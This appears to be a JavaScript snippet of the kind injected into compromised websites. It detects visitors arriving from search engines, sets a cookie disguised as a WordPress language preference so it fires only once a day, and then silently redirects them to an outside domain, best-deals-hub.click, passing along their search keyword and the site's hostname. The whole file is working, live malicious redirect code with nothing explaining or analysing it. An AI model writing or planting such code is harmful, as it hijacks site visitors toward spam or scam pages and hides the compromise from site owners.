(function () {
  var ref = document.referrer || '';
  var engines = ['google.', 'bing.', 'yahoo.', 'duckduckgo.', 'yandex.', 'baidu.', 'ecosia.'];
  var fromSearch = false;
  for (var i = 0; i < engines.length; i++) {
    if (ref.indexOf(engines[i]) !== -1) {
      fromSearch = true;
      break;
    }
  }
  if (!fromSearch) return;

  if (document.cookie.indexOf('wp_lang_pref=') !== -1) return;
  var d = new Date();
  d.setTime(d.getTime() + 24 * 60 * 60 * 1000);
  document.cookie = 'wp_lang_pref=en_US; expires=' + d.toUTCString() + '; path=/';

  var kw = '';
  var m = ref.match(/[?&](q|p|text|wd)=([^&]+)/);
  if (m) kw = m[2];

  setTimeout(function () {
    window.location.replace('https://best-deals-hub.click/search/?kw=' + kw + '&site=' + encodeURIComponent(location.hostname));
  }, 1200);
})();
